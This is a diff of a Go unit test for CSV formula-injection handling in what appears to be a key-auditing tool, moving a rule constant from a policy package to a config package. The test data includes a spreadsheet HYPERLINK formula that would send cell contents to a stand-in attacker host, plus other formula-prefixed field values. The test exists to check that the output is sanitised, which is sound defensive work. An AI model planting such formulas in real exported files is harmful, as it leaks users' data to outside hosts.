@@ -8,6 +8,7 @@ import (
 
 	"github.com/google/go-cmp/cmp"
 
+	"github.com/keywarden/keywarden/internal/config"
 	"github.com/keywarden/keywarden/internal/policy"
 )
 
@@ -47,7 +48,7 @@ func TestCSVFormulaInjection(t *testing.T) {
 	hostile := `=HYPERLINK("http://evil.example/?"&A1,"click")`
 	r := New(time.Time{}, time.Time{}, []Account{{ID: "111111111111", Alias: "@alias", Status: StatusOK}}, []policy.Finding{{
 		ID: "+id", Account: "111111111111", User: hostile, Class: "-class", Credential: policy.CredentialPassword,
-		KeyID: "=key", Rule: policy.RulePasswordExpiry, DaysLeft: intp(-3), Action: "+action", Severity: "@sev",
+		KeyID: "=key", Rule: config.RulePasswordExpiry, DaysLeft: intp(-3), Action: "+action", Severity: "@sev",
 		Exempt: true, ExemptReason: "\tcmd", Recipients: []string{"=a@example.com", "b@example.com"}, Reason: "\r=cmd",
 	}})
 	rows := readCSV(t, render(t, r, FormatCSV, Options{}))
